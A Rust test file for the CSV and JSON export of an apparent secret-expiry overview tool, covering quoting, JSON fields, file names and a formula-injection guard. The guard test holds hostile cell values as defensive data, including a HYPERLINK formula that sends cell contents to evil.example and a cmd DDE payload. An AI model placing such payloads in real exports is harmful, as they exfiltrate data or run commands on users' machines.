//! CSV quoting and the formula-injection guard, JSON shape, file names.

use std::collections::HashSet;

use serde_json::Value;

use super::{app, known_rows, now, rows, secret};
use crate::overview::export::{file_name, to_csv, to_json, CSV_COLUMNS};
use crate::overview::filter::{Chip, Filter};
use crate::overview::model::build_rows;

/// A strict RFC 4180 reader for the tests: CRLF line ends, quoted fields with doubled quotes.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = vec![];
    let mut record = vec![];
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\r') => {
                assert_eq!(chars.next(), Some('\n'), "CR without LF outside quotes");
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, '"') => panic!("a quote inside an unquoted field"),
            (false, '\n') => panic!("a bare LF outside quotes"),
            (false, c) => field.push(c),
        }
    }
    assert!(
        field.is_empty() && record.is_empty(),
        "the last line has no CRLF"
    );
    records
}

#[test]
fn csv_has_a_header_and_one_line_per_row_of_the_view() {
    let rows = rows();
    let mut f = Filter::default();
    f.set_chip(Chip::Ok, false);
    let view = f.apply(&rows);
    let csv = to_csv(view.iter().map(|&i| &rows[i]));
    let records = read_csv(&csv);
    assert_eq!(records[0], CSV_COLUMNS);
    assert_eq!(records.len(), 1 + 4);
    assert!(records.iter().all(|r| r.len() == CSV_COLUMNS.len()));
    let legacy = &records[2];
    assert_eq!(legacy[0], "Legacy Reporting");
    assert_eq!(legacy[1], "11111111-1111-4111-8111-000000000003");
    assert_eq!(legacy[3], "secret");
    assert_eq!(legacy[4], "reporting");
    assert_eq!(legacy[5], "k-leg");
    assert_eq!(legacy[8], "2026-11-16T10:00:00Z");
    assert_eq!(legacy[9], "expired");
    // A negative number the app computed is a number, not a formula: no guard.
    assert_eq!(legacy[10], "-10");
    assert_eq!(legacy[11], "false");
    let statuses: Vec<&str> = records[1..].iter().map(|r| r[9].as_str()).collect();
    assert_eq!(statuses, ["expired", "expired", "critical", "warning"]);
}

#[test]
fn csv_quotes_commas_quotes_and_line_breaks() {
    let apps = vec![app(
        "Sales, \"EMEA\"\r\nteam",
        1,
        vec![secret("k1", "line one\nline two", Some(5))],
    )];
    let rows = known_rows(&apps, &HashSet::new(), &now());
    let csv = to_csv(&rows);
    assert!(csv.contains("\"Sales, \"\"EMEA\"\"\r\nteam\","));
    let records = read_csv(&csv);
    assert_eq!(records.len(), 2);
    assert_eq!(records[1][0], "Sales, \"EMEA\"\r\nteam");
    assert_eq!(records[1][4], "line one\nline two");
}

#[test]
fn csv_cells_that_would_be_formulas_are_prefixed_with_a_quote() {
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\tTabbed",
        "\rReturn",
    ];
    for (n, name) in hostile.iter().enumerate() {
        let apps = vec![app(name, n as u32, vec![secret("=k", "@desc", Some(5))])];
        let rows = known_rows(&apps, &HashSet::new(), &now());
        let records = read_csv(&to_csv(&rows));
        let cell = &records[1][0];
        assert_eq!(cell, &format!("'{name}"), "app name {name:?}");
        assert_eq!(records[1][4], "'@desc");
        assert_eq!(records[1][5], "'=k");
    }
    // Harmless text is left alone, even with those characters inside.
    let apps = vec![app("a=b @ c-d", 9, vec![])];
    let rows = known_rows(&apps, &HashSet::new(), &now());
    let records = read_csv(&to_csv(&rows));
    assert_eq!(records[1][0], "a=b @ c-d");
    assert_eq!(records[1][3], "none");
    assert_eq!(records[1][9], "none");
    assert_eq!(&records[1][4..9], ["", "", "", "", ""]);
}

#[test]
fn json_is_an_array_of_row_objects_with_iso_dates() {
    let rows = rows();
    let text = to_json(&rows);
    let v: Value = serde_json::from_str(&text).unwrap();
    let arr = v.as_array().unwrap();
    assert_eq!(arr.len(), rows.len());
    let first = arr[0].as_object().unwrap();
    let keys: Vec<&str> = first.keys().map(String::as_str).collect();
    let mut expected = vec![
        "appName",
        "clientId",
        "appObjectId",
        "kind",
        "description",
        "keyId",
        "hintOrThumbprint",
        "start",
        "end",
        "status",
        "daysLeft",
        "ownedByMe",
        "owners",
    ];
    let mut got = keys.clone();
    got.sort();
    expected.sort();
    assert_eq!(got, expected);
    assert_eq!(first["appName"], "Mail Relay");
    assert_eq!(first["status"], "expired");
    assert_eq!(first["end"], "2025-10-22T10:00:00Z");
    assert_eq!(first["daysLeft"], -400);
    let payroll = arr.iter().find(|r| r["keyId"] == "k-pay-old").unwrap();
    assert_eq!(payroll["status"], "critical");
    assert_eq!(payroll["ownedByMe"], true);
    assert_eq!(payroll["kind"], "secret");
    let forever = arr.iter().find(|r| r["keyId"] == "k-forever").unwrap();
    assert_eq!(forever["status"], "no-expiry");
    assert!(forever["end"].is_null() && forever["daysLeft"].is_null());
    let bot = arr.last().unwrap();
    assert_eq!(bot["kind"], "none");
    assert!(bot["keyId"].is_null());
    let cert = arr.iter().find(|r| r["kind"] == "certificate").unwrap();
    assert_eq!(cert["hintOrThumbprint"], "0001020304");
    // Hostile text stays a JSON string.
    let apps = vec![app("</script><b>\"x\"", 1, vec![])];
    let hostile = to_json(&known_rows(&apps, &HashSet::new(), &now()));
    let back: Value = serde_json::from_str(&hostile).unwrap();
    assert_eq!(back[0]["appName"], "</script><b>\"x\"");
    assert_eq!(to_json(&[]), "[]");
}

#[test]
fn file_names_carry_the_users_date() {
    assert_eq!(file_name(&now(), "csv"), "secret-expiry-2026-11-26.csv");
    let late = chrono::FixedOffset::east_opt(14 * 3600).unwrap();
    assert_eq!(
        file_name(&now().with_timezone(&late), "json"),
        "secret-expiry-2026-11-27.json"
    );
}

#[test]
fn owned_by_me_is_blank_until_it_has_been_looked_up() {
    let apps = vec![app("Payroll API", 1, vec![secret("k1", "d", Some(5))])];
    let unknown = build_rows(&apps, &now());
    let records = read_csv(&to_csv(&unknown));
    assert_eq!(records[0][11], "owned_by_me");
    assert_eq!(records[1][11], "", "not looked up: blank, not false");
    let json: Value = serde_json::from_str(&to_json(&unknown)).unwrap();
    assert!(json[0]["ownedByMe"].is_null());
    let known = known_rows(&apps, &HashSet::new(), &now());
    assert_eq!(read_csv(&to_csv(&known))[1][11], "false");
    let json: Value = serde_json::from_str(&to_json(&known)).unwrap();
    assert_eq!(json[0]["ownedByMe"], false);
}
